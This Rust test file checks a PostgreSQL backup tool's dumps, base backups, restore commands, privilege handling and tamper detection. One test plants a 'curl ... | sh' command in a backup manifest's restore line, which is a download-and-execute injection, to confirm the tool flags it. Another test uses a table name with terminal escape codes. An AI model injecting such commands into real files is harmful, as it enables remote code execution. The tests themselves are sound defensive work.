//! Dumps, SQL and base backups of a real server: what is in them, and that standard tools restore them.

use std::process::{Command, Stdio};

use super::{Place, name};
use crate::systems::databases::postgres::server::{Server, programs};

#[tokio::test(flavor = "multi_thread")]
async fn a_dump_lies_in_every_store_with_its_roles_and_its_manifest() {
    let place = Place::new().await;
    let backup = place.back_up("");
    assert_eq!((&backup["outcome"], &backup["method"]), (&"taken".into(), &"dump".into()), "{backup:#}");
    let names = |store: &str| place.files(store).iter().map(|path| name(path).to_owned()).collect::<Vec<_>>();
    assert_eq!(names("local"), names("second"));
    let endings: Vec<String> = names("local").iter().map(|name| name.split_once('.').unwrap().1.to_owned()).collect();
    assert_eq!(endings, ["dump", "json", "roles.sql"]);
    let counts = &backup["manifest"]["source"]["counts"];
    assert_eq!((counts["public.orders"].as_u64(), counts["public.empty"].as_u64()), (Some(2000), Some(0)));
    let about = &backup["manifest"]["source"];
    assert!(about["system"].as_str().unwrap().starts_with("PostgreSQL 1"), "{about:#}");
    assert!(about["identity"].as_str().unwrap().parse::<u64>().is_ok());
    let points = place.points();
    assert_eq!((points.len(), &points[0]["state"]), (1, &"present".into()));
    let verified = place.run("verify");
    assert_eq!(verified.code, Some(0), "{verified:?}");
    assert!(verified.out.contains("3 tables with 2003 rows"), "{verified:?}");
    assert_eq!(place.points()[0]["state"], "verified");
}

#[tokio::test(flavor = "multi_thread")]
async fn the_line_in_the_manifest_restores_it() {
    let place = Place::new().await;
    let of_the_database = [
        "ALTER DATABASE postgres SET search_path TO public, pg_catalog",
        "ALTER ROLE application IN DATABASE postgres SET statement_timeout TO '7s'",
        "REVOKE CONNECT ON DATABASE postgres FROM PUBLIC",
    ];
    place.server.execute(&of_the_database).await;
    let at_the_database = |command: &str| {
        let free = "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = 'postgres'";
        place.psql("psql", &["-q", "-d", "template1", "-c", free, "-c", command])
    };
    for method in ["dump", "sql"] {
        let backup = place.back_up(&format!("--method {method} --to local"));
        let file = &backup["manifest"]["files"][0];
        let folder = place.home.path().join("local").join(file["key"].as_str().unwrap()).parent().unwrap().to_owned();
        let line = file["restore"].as_str().unwrap();
        at_the_database("ALTER DATABASE postgres RENAME TO before");
        let mut shell = place.home.command_of("sh", ["-ec", line]);
        shell.current_dir(folder).env("PGHOST", "127.0.0.1").env("PGPORT", place.server.port.to_string());
        shell.env("PGUSER", "postgres").env("PGPASSWORD", crate::systems::databases::postgres::server::PASSWORD);
        let output = shell.stdout(Stdio::null()).output().unwrap();
        assert!(output.status.success(), "{line}: {}", String::from_utf8_lossy(&output.stderr));
        let asked = |question: &str| place.psql("psql", &["-At", "-d", "postgres", "-c", question]);
        assert_eq!(asked("select count(*) from orders"), "2000");
        let settings = "select count(*) from pg_db_role_setting s join pg_database d on d.oid = s.setdatabase \
                        where d.datname = 'postgres'";
        assert_eq!(asked(settings), "2", "{method}");
        assert_eq!(asked("select has_database_privilege('application', 'postgres', 'connect')"), "f", "{method}");
        at_the_database("DROP DATABASE before");
    }
    let roles = place.files("local").into_iter().find(|path| name(path).ends_with(".roles.sql")).unwrap();
    assert!(std::fs::read_to_string(roles).unwrap().contains("CREATE ROLE application"));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_base_backup_is_what_its_own_manifest_says() {
    let place = Place::new().await;
    let backup = place.back_up("--method base");
    assert_eq!(backup["outcome"], "taken", "{backup:#}");
    assert!(backup["manifest"]["source"]["about"]["start_lsn"].is_string(), "{backup:#}");
    let archive = place.files("local").into_iter().find(|path| name(path).ends_with(".tar.zst")).unwrap();
    // The program of PostgreSQL agrees.
    let data = tempfile::tempdir().unwrap();
    let packed = std::fs::File::open(&archive).unwrap();
    let mut tar = Command::new("tar").args(["-x", "-C"]).arg(data.path()).stdin(Stdio::piped()).spawn().unwrap();
    let plain = zstd::decode_all(packed).unwrap();
    std::io::Write::write_all(tar.stdin.as_mut().unwrap(), &plain).unwrap();
    drop(tar.stdin.take());
    assert!(tar.wait().unwrap().success());
    let verify = programs().join("pg_verifybackup");
    let output = Command::new(verify).arg(data.path()).output().unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    let verified = place.run("verify");
    assert!(verified.code == Some(0) && verified.out.contains("a server, "), "{verified:?}");
    // A byte that is flipped inside, with the packing made anew, is found by the manifest.
    let mut flipped = plain.clone();
    let at = memchr::memmem::find(&flipped, b"global/pg_control").unwrap() + 512 + 40;
    flipped[at] ^= 1;
    std::fs::write(&archive, zstd::encode_all(flipped.as_slice(), 1).unwrap()).unwrap();
    let verified = place.run("verify");
    assert!(verified.code == Some(3), "{verified:?}");
    assert!(place.points()[0]["state"] != "verified");
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_not_whole_is_refused_and_leaves_nothing() {
    let place = Place::new().await;
    // A page that reads as empty: no program of PostgreSQL complains, and the rows are not there any more.
    let client = place.server.superuser().await;
    client
        .batch_execute("CREATE TABLE big AS SELECT i, repeat('x', 100) FROM generate_series(1, 20000) i")
        .await
        .unwrap();
    let backup = place.back_up("");
    assert_eq!(backup["outcome"], "taken");
    // Row security hides rows from a login, and pg_dump refuses to dump what it cannot see all of.
    client
        .batch_execute("CREATE ROLE lesser LOGIN PASSWORD 'correct horse battery'; GRANT pg_read_all_data TO lesser")
        .await
        .unwrap();
    client.batch_execute("ALTER TABLE big ENABLE ROW LEVEL SECURITY").await.unwrap();
    let plan = std::fs::read_to_string(place.home.path().join("plan.toml")).unwrap();
    place.home.write("plan.toml", plan.replace("postgres@127.0.0.1", "lesser@127.0.0.1"));
    let before = place.files("local");
    let refused = place.back_up("");
    assert_eq!(refused["outcome"], "failed");
    assert!(refused["why"].as_str().unwrap().contains("row-level security"), "{refused:#}");
    assert_eq!(place.files("local"), before);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_lesser_login_keeps_what_it_may_and_says_what_not() {
    let place = Place::new().await;
    let client = place.server.superuser().await;
    client
        .batch_execute(
            "CREATE ROLE lesser LOGIN PASSWORD 'correct horse battery'; GRANT USAGE ON SCHEMA \"Odd one\" TO lesser; \
             GRANT SELECT ON ALL TABLES IN SCHEMA public, \"Odd one\" TO lesser; \
             GRANT SELECT ON ALL SEQUENCES IN SCHEMA public TO lesser",
        )
        .await
        .unwrap();
    let plan = std::fs::read_to_string(place.home.path().join("plan.toml")).unwrap();
    place.home.write("plan.toml", plan.replace("postgres@127.0.0.1", "lesser@127.0.0.1"));
    let ran = place.run("backup agents");
    assert_eq!(ran.code, Some(0), "{ran:?}");
    assert!(ran.out.contains("not in it: passwords of roles"), "{ran:?}");
    let roles = place.files("local").into_iter().find(|path| name(path).ends_with(".roles.sql")).unwrap();
    let roles = std::fs::read_to_string(roles).unwrap();
    assert!(roles.contains("CREATE ROLE application") && !roles.contains("SCRAM"), "{roles}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_dump_that_was_taken_elsewhere_is_read_back_where_its_programs_are() {
    let place = Place::new().await;
    // They lie in a folder that only that place has: no path of theirs leads to them from here.
    let there = place.home.path().join("there");
    std::fs::create_dir(&there).unwrap();
    std::os::unix::fs::symlink(programs(), there.join("programs")).unwrap();
    let plan = std::fs::read_to_string(place.home.path().join("plan.toml")).unwrap();
    let at = format!("do = 'backup'\nat = {{ prefix = ['env', '-C', '{}'] }}\n", there.display());
    let settings = "[component.postgres]\nprograms = 'programs'\n[[store]]\nname = 'local'";
    let plan = plan.replacen("[[store]]\nname = 'local'", settings, 1).replace("do = 'backup'\n", &at);
    place.home.write("plan.toml", plan);
    let backup = place.back_up("");
    assert_eq!(backup["outcome"], "taken", "{backup:#}");
    assert_eq!(place.run("verify").code, Some(0));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_line_that_somebody_put_into_a_manifest_is_said_to_be_strange() {
    let place = Place::new().await;
    let backup = place.back_up("");
    let point = backup["manifest"]["point"].as_str().unwrap();
    let doubt = "This version does not write such a line";
    let shown = place.run(&format!("points {point}"));
    assert!(shown.code == Some(0) && shown.out.contains("pg_restore") && !shown.out.contains(doubt), "{shown:?}");
    let is_manifest = |path: &std::path::PathBuf| path.extension().is_some_and(|it| it == "json");
    let manifest = place.files("local").into_iter().find(is_manifest).unwrap();
    let text = std::fs::read_to_string(&manifest).unwrap();
    std::fs::write(&manifest, text.replace("pg_restore", "curl http://127.0.0.1:1 | sh; pg_restore")).unwrap();
    let shown = place.run(&format!("points {point}"));
    let before = |words: &str| shown.out.find(words).unwrap_or_else(|| panic!("no {words:?}: {shown:?}"));
    assert!(before(doubt) < before("curl http") && shown.out.matches(doubt).count() == 1, "{shown:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn what_was_emptied_is_told_and_stands_in_for_nothing() {
    let place = Place::with(Server::start(&[]).await, "keep = { age = '1s', at_least = 1 }\n");
    place.server.execute(super::DATA).await;
    let full = place.back_up("")["manifest"]["point"].as_str().unwrap().to_owned();
    place.server.execute(&["TRUNCATE orders, \"Odd one\".\"a \"\"b\"\"\n\x1b[31mc\""]).await;
    let taken = place.run("backup agents");
    assert!(taken.code == Some(3) && taken.out.contains("is usual"), "{taken:?}");
    let verified = place.run("verify");
    assert!(verified.code == Some(3) && verified.out.contains("is usual"), "{verified:?}");
    tokio::time::sleep(std::time::Duration::from_millis(1200)).await;
    assert_eq!(place.run("expire --yes").code, Some(0));
    let left = place.points();
    assert!(left.iter().any(|point| point["id"] == full.as_str()), "{left:#?}");
}
